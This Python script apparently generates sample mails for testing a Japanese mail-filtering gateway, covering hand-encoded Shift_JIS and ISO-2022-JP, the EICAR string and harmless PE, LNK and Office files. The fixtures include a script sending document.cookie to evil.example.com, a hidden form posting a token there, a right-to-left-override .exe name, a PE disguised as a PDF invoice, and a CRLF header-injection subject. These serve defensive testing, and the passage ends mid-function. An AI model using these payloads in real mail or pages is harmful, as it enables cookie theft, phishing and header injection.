#!/usr/bin/env python3
"""Generates the sample mails in this folder (and the sample files in ../files).

    python3 samples/mail/make_samples.py

Deterministic: running it again rewrites every file with the same bytes.
The tests in tests/e2e/ read the generated files and, for the expected values,
import the constants defined here (SUBJECTS, BODY_LINES, ...), so a sample and
what the tests expect of it are written in one place.

Japanese text is encoded by hand, not with Python's codecs alone, because mail
from Windows uses Microsoft's variants:
  * Shift_JIS means CP932. IBM extension kanji such as 髙 (U+9AD9) and 﨑
    (U+FA11) are written as Windows writes them: in the IBM rows 0xFA-0xFC
    (髙 = 0xFB 0xFC), not in the NEC-selected rows 0xED-0xEE that Python's
    encoder picks (髙 = 0xEE 0xE0).
  * ISO-2022-JP means CP50221: JIS X 0208 plus NEC row 13 (① = 0x2D 0x21,
    ㈱ = 0x2D 0x6A, ㍻ = 0x2D 0x5F) and the NEC-selected IBM extensions in rows
    89-92 (髙 = 0x7C 0x62). glibc's ISO-2022-JP converter and Python's
    'iso2022_jp' codec both refuse these.
Every encoded string is decoded back and compared before it is used.
"""

import base64
import hashlib
import io
import os
import struct
import sys
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
FILES_DIR = os.path.join(os.path.dirname(HERE), "files")

CRLF = "\r\n"

# ---------------------------------------------------------------------------
# Japanese encodings, by hand
# ---------------------------------------------------------------------------


def _build_ibm_tables():
    """Maps between IBM extension codes (0xFA40-0xFC4B) and NEC-selected IBM
    extension codes (0xED40-0xEEFC), both as CP932 decodes them."""
    nec_by_char, ibm_by_char = {}, {}
    for lead in range(0xED, 0xEF):
        for trail in list(range(0x40, 0x7F)) + list(range(0x80, 0xFD)):
            b = bytes([lead, trail])
            try:
                nec_by_char[b.decode("cp932")] = b
            except UnicodeDecodeError:
                pass
    for lead in range(0xFA, 0xFD):
        for trail in list(range(0x40, 0x7F)) + list(range(0x80, 0xFD)):
            b = bytes([lead, trail])
            try:
                ch = b.decode("cp932")
            except UnicodeDecodeError:
                continue
            ibm_by_char.setdefault(ch, b)
    return nec_by_char, ibm_by_char


NEC_SELECTED, IBM_EXT = _build_ibm_tables()


def cp932(text):
    """Text as Windows writes it in Shift_JIS (CP932): IBM extensions in the
    IBM rows."""
    out = bytearray()
    for ch in text:
        b = ch.encode("cp932")
        if len(b) == 2 and b[0] in (0xED, 0xEE) and ch in IBM_EXT:  # Python picked the NEC-selected row
            b = IBM_EXT[ch]
        out += b
    result = bytes(out)
    assert result.decode("cp932") == text, text
    return result


def sjis_to_jis(s1, s2):
    """The standard Shift_JIS -> JIS row/cell formula."""
    if s1 >= 0xE0:
        s1 -= 0x40
    j1 = (s1 - 0x81) * 2 + 0x21
    if s2 >= 0x9F:
        j1 += 1
        j2 = s2 - 0x7E
    else:
        j2 = s2 - 0x1F if s2 < 0x7F else s2 - 0x20
    return j1, j2


def jis_to_sjis(j1, j2):
    s1 = (j1 + 1) // 2 + 0x70
    if s1 >= 0xA0:
        s1 += 0x40
    if j1 % 2:
        s2 = j2 + 0x1F
        if s2 >= 0x7F:
            s2 += 1
    else:
        s2 = j2 + 0x7E
    return s1, s2


ESC_KANJI = b"\x1b$B"
ESC_ASCII = b"\x1b(B"


def iso2022jp(text):
    """Text as Outlook writes ISO-2022-JP (CP50221). Half-width katakana is not
    used in these samples."""
    out = bytearray()
    kanji = False
    for ch in text:
        if ord(ch) < 0x80:
            if kanji:
                out += ESC_ASCII
                kanji = False
            out += ch.encode("ascii")
            continue
        b = ch.encode("cp932")
        if len(b) != 2:
            raise ValueError("no JIS X 0208 form for %r" % ch)
        if b[0] in (0xFA, 0xFB, 0xFC):  # IBM extensions go out as NEC-selected rows
            b = NEC_SELECTED[ch]
        j1, j2 = sjis_to_jis(b[0], b[1])
        if not (0x21 <= j1 <= 0x7E and 0x21 <= j2 <= 0x7E):
            raise ValueError("%r is outside the 94x94 set" % ch)
        if not kanji:
            out += ESC_KANJI
            kanji = True
        out += bytes([j1, j2])
    if kanji:
        out += ESC_ASCII
    result = bytes(out)
    assert decode_iso2022jp(result) == text, text
    return result


def decode_iso2022jp(data):
    """Decoder used only to check iso2022jp() above (JIS -> SJIS -> CP932)."""
    out = []
    i, kanji = 0, False
    while i < len(data):
        if data[i:i + 3] == ESC_KANJI:
            kanji, i = True, i + 3
        elif data[i:i + 3] == ESC_ASCII:
            kanji, i = False, i + 3
        elif kanji:
            s1, s2 = jis_to_sjis(data[i], data[i + 1])
            out.append(bytes([s1, s2]).decode("cp932"))
            i += 2
        else:
            out.append(chr(data[i]))
            i += 1
    return "".join(out)


# Spot checks of the tables above against the values documented in the
# module docstring (and against iconv's CP932 for the Shift_JIS forms).
assert cp932("①㈱㍻髙﨑～") == b"\x87\x40\x87\x8a\x87\x7e\xfb\xfc\xfa\xb1\x81\x60"
assert iso2022jp("①㈱㍻髙") == b"\x1b$B\x2d\x21\x2d\x6a\x2d\x5f\x7c\x62\x1b(B"
assert "～".encode("cp932").decode("cp932") == "\uff5e"


def b64(data):
    return base64.b64encode(data).decode("ascii")


def b64_lines(data, width=76):
    s = b64(data)
    return CRLF.join(s[i:i + width] for i in range(0, len(s), width)) + CRLF


def ew(text, charset="ISO-2022-JP", chunk=12):
    """RFC 2047 B encoded words, `chunk` characters each (every word a
    complete, self-contained sequence, as mailers write them), folded."""
    words = []
    for i in range(0, len(text), chunk):
        part = text[i:i + chunk]
        if charset.upper() == "ISO-2022-JP":
            raw = iso2022jp(part)
        elif charset.upper() in ("SHIFT_JIS", "CP932"):
            raw = cp932(part)
        else:
            raw = part.encode("utf-8")
        words.append("=?%s?B?%s?=" % (charset, b64(raw)))
    return (CRLF + " ").join(words)


def pct(data):
    """RFC 2231 percent-encoding of bytes."""
    safe = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.!~"
    return "".join(chr(c) if c in safe else "%%%02X" % c for c in data)


def crlf(text):
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


# ---------------------------------------------------------------------------
# Binary payloads (harmless by construction)
# ---------------------------------------------------------------------------

# The EICAR anti-virus test string: 68 printable bytes, harmless by design.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
assert len(EICAR) == 68 and hashlib.md5(EICAR).hexdigest() == "44d88612fea8a8f36de82e1278abb02f"


def tiny_pe():
    """512 bytes: an MS-DOS header pointing at a PE signature for i386, as in
    gateway/type_detector_test.cpp. libmagic calls it a PE executable; it
    contains no code and cannot run."""
    b = bytearray(512)
    b[0:2] = b"MZ"
    b[0x3C] = 0x80
    b[0x80:0x84] = b"PE\0\0"
    b[0x84] = 0x4C
    b[0x85] = 0x01
    return bytes(b)


TINY_PE = tiny_pe()


def minimal_pe():
    """1024 bytes: a well-formed PE32 GUI program whose only code is
    `xor eax, eax; ret`. Unlike tiny_pe() (whose broken headers trip ClamAV's
    Heuristics.Broken.Executable), nothing flags it, so it exercises the
    policy for executables rather than the scanner."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0x66F9E000, 0, 0, 0xE0, 0x0102)
    opt = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
                      0x10B, 14, 0, 0x200, 0, 0, 0x1000, 0x1000, 0x2000, 0x400000, 0x1000, 0x200,
                      6, 0, 0, 0, 6, 0, 0, 0x2000, 0x200, 0, 2, 0x8540, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    opt += bytes(16 * 8)  # empty data directories
    assert len(opt) == 0xE0
    section = struct.pack("<8sIIIIIIHHI", b".text", 0x1000, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
    head = bytes(dos) + b"PE\0\0" + coff + opt + section
    head += bytes(0x200 - len(head))
    return head + b"\x31\xc0\xc3" + bytes(0x200 - 3)


MINIMAL_PE = minimal_pe()


def tiny_lnk():
    """A Windows shell link header (76 bytes, the LNK CLSID) and nothing to
    run: libmagic calls it application/x-ms-shortcut."""
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    header = struct.pack("<I16sII", 0x4C, clsid, 0x00000001, 0x20) + bytes(76 - 28)
    return header + bytes(4)


def tiny_png():
    """A 1x1 white PNG."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00\xff\xff\xff", 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def tiny_pdf():
    return (b"%PDF-1.4\n"
            b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
            b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj\n"
            b"trailer << /Root 1 0 R >>\n%%EOF\n")


def fixed_zip(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 10, 1, 9, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def tiny_docx():
    """The smallest OOXML word document libmagic recognises."""
    return fixed_zip([
        ("[Content_Types].xml",
         b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         b'<Default Extension="xml" ContentType="application/xml"/>'
         b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
         b'</Types>'),
        ("_rels/.rels",
         b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
         b'</Relationships>'),
        ("word/document.xml",
         b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
         b'<w:body><w:p><w:r><w:t>report</w:t></w:r></w:p></w:body></w:document>'),
    ])


def pseudo_random(n, seed=b"mukaika"):
    out = bytearray()
    block = seed
    while len(out) < n:
        block = hashlib.sha256(block).digest()
        out += block
    return bytes(out[:n])


# ---------------------------------------------------------------------------
# Common headers
# ---------------------------------------------------------------------------

TRACE_HEADERS = (
    "Return-Path: <bounce@mx.example.jp>" + CRLF +
    "Received: from mx.example.jp (mx.example.jp [192.0.2.25])" + CRLF +
    "\tby mail.city.example.jp (Postfix) with ESMTPS id 4XKQ2b1ZpHz9sTn" + CRLF +
    "\tfor <soumu@city.example.jp>; Tue, 01 Oct 2024 10:12:31 +0900 (JST)" + CRLF +
    "Received: from [198.51.100.7] by mx.example.jp; Tue, 01 Oct 2024 10:12:29 +0900" + CRLF +
    "X-Mailer: Microsoft Outlook 16.0" + CRLF +
    "X-Originating-IP: [198.51.100.7]" + CRLF
)

# ---------------------------------------------------------------------------
# Expected values shared with tests/e2e/test_cli.py
# ---------------------------------------------------------------------------

SUBJECTS = {
    "iso2022jp-ms-ext.eml": "【㈱髙橋建設】①市道舗装補修工事（㍻31年度繰越分）の完了報告",
    "cp932-shift-jis-label.eml": "【会議案内】①第3回連絡会議（㈱髙田設計）10月1日～10月3日",
    "utf8-plain.eml": "住民票の写しの交付請求について（𠮷野）",
    "html-only.eml": "【情報政策課】システム停止のお知らせ",
    "alternative.eml": "①庁内LAN切替作業のご案内",
    "eicar-body.eml": "ウイルス検査の試験（本文）",
    "eicar-attachment.eml": "ウイルス検査の試験（添付ファイル）",
    "exe-named-pdf.eml": "【至急】請求書送付のご案内",
    "bidi-filename.eml": "報告書の送付",
    "nested-rfc822.eml": "Fw: ①補助金申請の件（㈱髙木）",
    "rfc2231-names.eml": "会議資料一式（ファイル名の試験）",
    "csv-cp932.eml": "職員名簿（CSV）の送付",
    "signed.eml": "【電子署名付き】入札公告の送付について",
    "many-attachments.eml": "各種資料の送付",
    "sp-prefix-body.eml": "SPring-8 施設見学会のご案内",
}

FROM = {
    "iso2022jp-ms-ext.eml": ("㈱髙橋建設 工事部 髙橋①郎", "takahashi@takahashi-kensetsu.example.jp"),
    "cp932-shift-jis-label.eml": ("㈱髙田設計 営業部 髙田", "takada@takada-sekkei.example.jp"),
    "utf8-plain.eml": ("𠮷野 花子", "yoshino@example.jp"),
    "nested-rfc822.eml": ("霞市 総務課 山田", "yamada@city.example.jp"),
}

# The To of cp932-shift-jis-label.eml is raw 8-bit CP932 (no encoded word).
CP932_RAW_TO = ("霞市 総務課", "soumu@city.example.jp")

BODY_LINES = {
    "iso2022jp-ms-ext.eml": [
        "霞市役所 建設課",
        "ご担当者様",
        "いつもお世話になっております。㈱髙橋建設の髙橋でございます。",
        "①工事件名：市道①号線 舗装補修工事",
        "②工期：令和6年4月1日から令和6年9月30日まで",
        "③備考：㍻31年度からの繰越分を含みます。",
        "カタカナ・ひらがな・漢字・English 123 が混在する行です。",
    ],
    "cp932-shift-jis-label.eml": [
        "霞市 総務課 御中",
        "㈱髙田設計の髙田です。",
        "①日時：10月1日～10月3日 各日 13:30～",
        "②場所：本庁舎 3階 第1会議室",
        "ﾊﾝｶｸｶﾀｶﾅ ﾃｽﾄ（半角カナ）",
    ],
    "utf8-plain.eml": [
        "霞市 市民課 御中",
        "住民票の写しを1通、郵送で請求いたします。",
        "請求者：𠮷野 花子（髙島屋ビル 3F）",
        "① 本人確認書類の写しは別送いたします。",
        "よろしくお願いいたします。",
    ],
    "alternative.eml": [
        "情報政策課です。",
        "①10月12日（土）に庁内LANの切替作業を行います。",
        "PLAIN-PART-MARKER",
    ],
    "nested-rfc822.eml": [
        "以下のメールを転送します。ご確認ください。",
    ],
    # libmagic reads any text that starts with "SP" as HP-GL plotter data.
    "sp-prefix-body.eml": [
        "SPring-8 施設見学会のご案内",
        "霞市 企画課です。",
        "①日時：11月9日（土）10:00",
        "②集合：播磨科学公園都市 SPring-8 正門前",
    ],
}

NESTED_INNER = {
    "from": ("特定非営利活動法人さくら 佐藤", "sato@sakura-npo.example.jp"),
    "subject": "①補助金申請の件（㈱髙木）",
    "date": "Mon, 7 Oct 2024 09:15:00 +0900",
    "body": ["霞市 総務課 御中", "補助金の申請書を添付いたします。", "よろしくお願いいたします。"],
    "text_name": "申請書.txt",
    "text_content": "申請者：佐藤 髙子\r\n申請額：①50万円\r\n",
    "vbs_name": "集計マクロ.vbs",
}

# rfc2231-names.eml: (expected name, content) in order of appearance.
RFC2231_ATTACHMENTS = [
    ("①議事録（㈱髙橋）.txt", "attachment A: ISO-2022-JP with continuations\r\n"),
    ("②見積書（10月～12月）髙田.txt", "attachment B: Shift_JIS RFC 2231\r\n"),
    ("令和6年度_予算要求資料_最終版_v2.txt", "attachment C: UTF-8 continuations split mid-character\r\n"),
    ("市民からのご意見.txt", "attachment D: RFC 2047 ISO-2022-JP inside quotes\r\n"),
    ("住民票の写し交付申請.txt", "attachment E: RFC 2047 UTF-8 split across two words\r\n"),
    ("連絡先一覧.txt", "attachment F: Content-Type name* only\r\n"),
    ("③説明資料.txt", "attachment G: raw 8-bit CP932 in quotes\r\n"),
]

CSV_ROWS = [
    "職員番号,氏名,所属,備考",
    "1001,髙橋 一郎,総務課,①",
    "1002,山﨑 花子,企画課,㈱出向",
    "1003,ｻﾄｳ ｼﾞﾛｳ,財政課,10月～12月",
]
CSV2_ROWS = [
    "施設名,所在地,電話番号",
    "霞市民会館,霞市本町1-1,03-0000-0001",
    "霞市立図書館,霞市緑町2-3,03-0000-0002",
]

# many-attachments.eml: name -> reason code (None: kept).
# (name as attached, what the gateway does, reason code, name delivered as;
#  None when the attachment is removed)
MANY_ATTACHMENTS = [
    ("setup.exe", "remove", "policy.executable", None),
    ("請求書.js", "remove", "policy.script", None),
    ("資料.lnk", "remove", "policy.shortcut", None),
    ("ディスク.iso", "remove", "policy.disk_image", None),
    # rebuilt by office.strip_active; nothing active in it, so kept
    ("報告書.docx", "keep", "office.rebuilt", "報告書.docx"),
    # a plain zip named .docx: opened, checked, repacked, and named for what it is
    ("資料一式.docx", "keep", "archive.repacked", "資料一式.zip"),
    ("写真.png", "convert", "image.reencoded", "写真.png"),
    ("案内.pdf", "convert", "pdf.rasterized", "案内.pdf"),
    ("ページ.html", "remove", "policy.html", None),
    ("データ.bin", "remove", "policy.unknown", None),
    ("議事録.txt", "keep", "text.kept", "議事録.txt"),
]
MANY_TEXT = "10月1日 定例会議 議事録\r\n出席者：髙橋、山﨑\r\n"

HTML_EXPECT_PRESENT = [
    "霞市 情報政策課 御中",
    "市のお知らせページ",
    "https://www.city.example.jp/jouhou/koushin.html",
    "ここをクリック",
    "財務会計システム",
    "文書管理システム",
    "R&D部門",
    "<共通基盤>",
    "©",
    "①あ",
    "\"お知らせ\"",
]
HTML_EXPECT_ABSENT = [
    "<script", "<style", "<p>", "<td", "<a ", "mukaikaScriptMarker", "SCRIPT-TEXT-MARKER", "document.cookie",
    "evil.example.com", "#ff0000", "javascript:", "js-link-marker", "onload-marker", "COMMENT-MARKER",
    "HIDDEN-INPUT-MARKER", "TITLE-MUST-NOT-APPEAR", "&amp;", "&lt;", "&copy;", "&#x2460;",
]
# (row cells in order) that must be on one line each.
HTML_TABLE_ROWS = [("項目", "日時"), ("停止開始", "10月5日 18:00"), ("停止終了", "10月6日 9:00")]

# ---------------------------------------------------------------------------
# The samples
# ---------------------------------------------------------------------------

SAMPLES = {}


def sample(name):
    def register(fn):
        SAMPLES[name] = fn
        return fn
    return register


def addr(display, address, charset="ISO-2022-JP"):
    return "%s <%s>" % (ew(display, charset, chunk=10), address)


@sample("iso2022jp-ms-ext.eml")
def iso2022jp_ms_ext():
    name = "iso2022jp-ms-ext.eml"
    body = "\r\n".join([
        BODY_LINES[name][0],
        BODY_LINES[name][1],
        "",
        BODY_LINES[name][2],
        "標記の件につきまして、下記のとおりご報告いたします。",
        "",
        BODY_LINES[name][3],
        BODY_LINES[name][4],
        BODY_LINES[name][5],
        "",
        BODY_LINES[name][6],
        "",
        "以上",
    ]) + "\r\n"
    head = (TRACE_HEADERS +
            "From: " + addr(*FROM[name]) + CRLF +
            "To: " + addr("霞市役所 建設課", "kensetsu@city.example.jp") + CRLF +
            "Subject: " + ew(SUBJECTS[name]) + CRLF +
            "Date: Tue, 1 Oct 2024 10:12:00 +0900" + CRLF +
            "Message-ID: <20241001101200.4F2A@takahashi-kensetsu.example.jp>" + CRLF +
            "MIME-Version: 1.0" + CRLF +
            "Content-Type: text/plain; charset=\"ISO-2022-JP\"" + CRLF +
            "Content-Transfer-Encoding: 7bit" + CRLF + CRLF)
    return head.encode("ascii") + iso2022jp(body)


@sample("cp932-shift-jis-label.eml")
def cp932_shift_jis_label():
    name = "cp932-shift-jis-label.eml"
    lines = BODY_LINES[name]
    body = "\r\n".join([lines[0], "", lines[1], "第3回連絡会議を下記のとおり開催します。", "", lines[2], lines[3], "",
                        lines[4], ""]) + "\r\n"
    head = (TRACE_HEADERS +
            "From: " + addr(*FROM[name], charset="Shift_JIS") + CRLF).encode("ascii")
    head += b"To: " + cp932(CP932_RAW_TO[0]) + b" <" + CP932_RAW_TO[1].encode() + b">\r\n"
    head += ("Subject: " + ew(SUBJECTS[name], "SHIFT_JIS") + CRLF +
             "Date: Wed, 2 Oct 2024 08:30:00 +0900" + CRLF +
             "Message-ID: <1727825400.2201@takada-sekkei.example.jp>" + CRLF +
             "MIME-Version: 1.0" + CRLF +
             "Content-Type: text/plain; charset=Shift_JIS" + CRLF +
             "Content-Transfer-Encoding: 8bit" + CRLF + CRLF).encode("ascii")
    return head + cp932(body)


@sample("utf8-plain.eml")
def utf8_plain():
    name = "utf8-plain.eml"
    import quopri
    body = "\n".join(BODY_LINES[name] + ["", "𠮷野 花子", "電話 090-0000-0000"]) + "\n"
    qp = quopri.encodestring(body.encode("utf-8")).decode("ascii").replace("\n", "\r\n")
    head = (TRACE_HEADERS +
            "DKIM-Signature: v=1; a=rsa-sha256; d=example.jp; s=sel1; h=from:to:subject; bh=AAAA; b=BBBB" + CRLF +
            "List-Unsubscribe: <https://tracker.example.com/unsub?id=123>" + CRLF +
            "From: " + addr(*FROM[name], charset="UTF-8") + CRLF +
            "To: " + addr("霞市 市民課", "shimin@city.example.jp", "UTF-8") + CRLF +
            "Cc: " + addr("髙島 次郎", "takashima@example.jp", "UTF-8") + CRLF +
            "Reply-To: " + addr("𠮷野 花子（自宅）", "hanako.yoshino@home.example.jp", "UTF-8") + CRLF +
            "Subject: " + ew(SUBJECTS[name], "UTF-8") + CRLF +
            "Date: Thu, 3 Oct 2024 19:45:10 +0900" + CRLF +
            "Message-ID: <c0ffee.20241003.194510@example.jp>" + CRLF +
            "In-Reply-To: <reply-parent.1@city.example.jp>" + CRLF +
            "References: <thread-root.0@city.example.jp> <reply-parent.1@city.example.jp>" + CRLF +
            "MIME-Version: 1.0" + CRLF +
            "Content-Type: text/plain; charset=UTF-8; format=flowed" + CRLF +
            "Content-Transfer-Encoding: quoted-printable" + CRLF + CRLF)
    return head.encode("ascii") + qp.encode("ascii")


HTML_DOC = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>TITLE-MUST-NOT-APPEAR</title>
<style type="text/css">body { color: #ff0000; } p.note { margin: 0 }</style>
<script type="text/javascript">var mukaikaScriptMarker = 1; new Image().src = 'https://evil.example.com/c?' + document.cookie;</script>
</head>
<body onload="alert('onload-marker')">
<p>霞市 情報政策課 御中</p>
<p>いつもお世話になっております。<br>システム停止の&quot;お知らせ&quot;です。</p>
<p>詳細は<a href="https://www.city.example.jp/jouhou/koushin.html">市のお知らせページ</a>をご覧ください。</p>
<p><a href="javascript:alert('js-link-marker')">ここをクリック</a></p>
<table border="1">
<tr><th>項目</th><th>日時</th></tr>
<tr><td>停止開始</td><td>10月5日 18:00</td></tr>
<tr><td>停止終了</td><td>10月6日 9:00</td></tr>
</table>
<p>対象システム：</p>
<ul><li>財務会計システム</li><li>文書管理システム</li></ul>
<p>R&amp;D部門 &lt;共通基盤&gt; &copy; 2024 &#x2460;&#12354;</p>
<!-- COMMENT-MARKER-MUST-NOT-APPEAR -->
<form action="https://evil.example.com/post"><input type="hidden" name="token" value="HIDDEN-INPUT-MARKER"></form>
<script>var s = "SCRIPT-TEXT-MARKER";</script>
</body></html>
"""


@sample("html-only.eml")
def html_only():
    name = "html-only.eml"
    head = (TRACE_HEADERS +
            "From: " + addr("情報政策課", "jouhou@city.example.jp", "UTF-8") + CRLF +
            "To: " + addr("各課 システム担当", "all-staff@city.example.jp", "UTF-8") + CRLF +
            "Subject: " + ew(SUBJECTS[name], "UTF-8") + CRLF +
            "Date: Fri, 4 Oct 2024 12:00:00 +0900" + CRLF +
            "Message-ID: <html-only.20241004@city.example.jp>" + CRLF +
            "MIME-Version: 1.0" + CRLF +
            "Content-Type: text/html; charset=\"utf-8\"" + CRLF +
            "Content-Transfer-Encoding: base64" + CRLF + CRLF)
    return head.encode("ascii") + b64_lines(crlf(HTML_DOC).encode("utf-8")).encode("ascii")


@sample("alternative.eml")
def alternative():
    name = "alternative.eml"
    plain = "\r\n".join(BODY_LINES[name] + ["", "以上"]) + "\r\n"
    html = ("<html><body><p>情報政策課です。</p><p>HTML-PART-MARKER: 10月12日（土）に切替作業を行います。</p>"
            "</body></html>\r\n")
    boundary = "----=_NextPart_000_0012_01DB1A2B.3C4D5E60"
    text = (TRACE_HEADERS +
            "From: " + addr("情報政策課", "jouhou@city.example.jp") + CRLF +
            "To: all-staff@city.example.jp" + CRLF +
            "Subject: " + ew(SUBJECTS[name]) + CRLF +
            "Date: Fri, 4 Oct 2024 15:00:00 +0900" + CRLF +
            "Message-ID: <alternative.20241004@city.example.jp>" + CRLF +
            "MIME-Version: 1.0" + CRLF +
            "Content-Type: multipart/alternative;" + CRLF + "\tboundary=\"" + boundary + "\"" + CRLF + CRLF +
            "This is a multi-part message in MIME format." + CRLF + CRLF +
            "--" + boundary + CRLF +
            "Content-Type: text/plain; charset=\"iso-2022-jp\"" + CRLF +
            "Content-Transfer-Encoding: 7bit" + CRLF + CRLF).encode("ascii")
    text += iso2022jp(plain)
    text += (CRLF + "--" + boundary + CRLF +
             "Content-Type: text/html; charset=\"utf-8\"" + CRLF +
             "Content-Transfer-Encoding: base64" + CRLF + CRLF +
             b64_lines(html.encode("utf-8")) + CRLF +
             "--" + boundary + "--" + CRLF).encode("ascii")
    return text


@sample("eicar-body.eml")
def eicar_body():
    name = "eicar-body.eml"
    body = ("情報政策課です。ウイルス対策の動作確認のため、本文に試験用文字列を入れています。\r\n\r\n".encode("utf-8") +
            EICAR + b"\r\n\r\n" + "以上\r\n".encode("utf-8"))
    head = (TRACE_HEADERS +
            "From: " + addr("情報政策課", "jouhou@city.example.jp", "UTF-8") + CRLF +
            "To: soumu@city.example.jp" + CRLF +
            "Subject: " + ew(SUBJECTS[name], "UTF-8") + CRLF +
            "Date: Mon, 7 Oct 2024 10:00:00 +0900" + CRLF +
            "Message-ID: <eicar-body.20241007@city.example.jp>" + CRLF +
            "MIME-Version: 1.0" + CRLF +
            "Content-Type: text/plain; charset=utf-8" + CRLF +
            "Content-Transfer-Encoding: 8bit" + CRLF + CRLF)
    return head.encode("ascii") + body


def multipart_mixed(head_lines, boundary, parts, preamble=True):
    """head_lines: str (ASCII) headers without Content-Type; parts: list of
    (headers str, body bytes)."""
    out = (head_lines + "MIME-Version: 1.0" + CRLF +
           "Content-Type: multipart/mixed;" + CRLF + "\tboundary=\"" + boundary + "\"" + CRLF + CRLF).encode("ascii")
    if preamble:
        out += b"This is a multi-part message in MIME format.\r\n\r\n"
    for headers, body in parts:
        out += ("--" + boundary + CRLF + headers + CRLF).encode("ascii") + body
        if not body.endswith(b"\r\n"):
            out += b"\r\n"
    out += ("--" + boundary + "--" + CRLF).encode("ascii")
    return out


def text_part_jis(text):
    return ("Content-Type: text/plain; charset=\"iso-2022-jp\"" + CRLF +
            "Content-Transfer-Encoding: 7bit" + CRLF, iso2022jp(crlf(text)))


def attachment(name_header_value, data, ctype="application/octet-stream", cd_value=None):
    """name_header_value: the already encoded parameter text, e.g.
    'filename="a.txt"' (used for Content-Disposition; name= derived when simple)."""
    headers = "Content-Type: %s" % ctype + CRLF
    headers += "Content-Disposition: attachment;" + CRLF + "\t" + (cd_value or name_header_value) + CRLF
    headers += "Content-Transfer-Encoding: base64" + CRLF
    return headers, b64_lines(data).encode("ascii")


def common_head(name, from_display="情報政策課", from_addr="jouhou@city.example.jp", charset="ISO-2022-JP",
                date="Mon, 7 Oct 2024 11:00:00 +0900"):
    return (TRACE_HEADERS +
            "From: " + addr(from_display, from_addr, charset) + CRLF +
            "To: " + addr("霞市 総務課", "soumu@city.example.jp", charset) + CRLF +
            "Subject: " + ew(SUBJECTS[name], charset) + CRLF +
            "Date: " + date + CRLF +
            "Message-ID: <%s.20241007@example.jp>" % name.replace(".eml", "") + CRLF)


EICAR_ATTACHMENT_KEPT = ("議事録.txt", "10月7日 打合せ議事録\r\n出席者：情報政策課 髙橋\r\n")


@sample("eicar-attachment.eml")
def eicar_attachment():
    name = "eicar-attachment.eml"
    kept_name, kept_text = EICAR_ATTACHMENT_KEPT
    parts = [
        text_part_jis("霞市 総務課 御中\n\nウイルス対策の試験です。添付ファイルのうち2つは試験用のウイルス文字列です。\n\n以上\n"),
        attachment('filename="eicar.com"', EICAR, "application/octet-stream; name=\"eicar.com\""),
        ("Content-Type: text/plain; charset=us-ascii; name=\"eicar.txt\"" + CRLF +
         "Content-Disposition: attachment; filename=\"eicar.txt\"" + CRLF +
         "Content-Transfer-Encoding: 7bit" + CRLF, EICAR + b"\r\n"),
        attachment("filename*=UTF-8''" + pct(kept_name.encode("utf-8")), kept_text.encode("utf-8"),
                   "text/plain; charset=utf-8"),
    ]
    return multipart_mixed(common_head(name), "=_mukaika_eicar_att_001", parts)


@sample("exe-named-pdf.eml")
def exe_named_pdf():
    name = "exe-named-pdf.eml"
    fname = ew("請求書.pdf", chunk=40)
    parts = [
        text_part_jis("霞市 会計課 御中\n\n請求書を送付いたします。\nご確認のほどよろしくお願いいたします。\n"),
        attachment('filename="%s"' % fname, TINY_PE, "application/pdf;" + CRLF + "\tname=\"%s\"" % fname),
    ]
    return multipart_mixed(common_head(name, "経理部 請求担当", "billing@invoice.example.com"), "=_mukaika_pe_002",
                           parts)


BIDI_ATTACHMENTS = [
    # (raw name, expected delivered name or None when removed, code when removed)
    ("invoice\u202efdp.exe", None, "policy.executable"),
    ("報告書\u202efdp.txt", "報告書fdp.txt", None),
    ("memo\u200b\u2066.txt", "memo.txt", None),
]


@sample("bidi-filename.eml")
def bidi_filename():
    name = "bidi-filename.eml"
    parts = [text_part_jis("報告書を送付します。\n")]
    for i, (raw, _, _) in enumerate(BIDI_ATTACHMENTS):
        parts.append(attachment("filename*=UTF-8''" + pct(raw.encode("utf-8")),
                                ("harmless text file %d\r\n" % (i + 1)).encode("ascii"), "text/plain; charset=us-ascii"))
    return multipart_mixed(common_head(name), "=_mukaika_bidi_003", parts)


CRLF_SUBJECT = "【重要】お知らせ\r\nBcc: attacker@evil.example.com"


@sample("crlf-filename.eml")
def crlf_filename():
    name = "crlf-filename.eml"
    head = (TRACE_HEADERS +
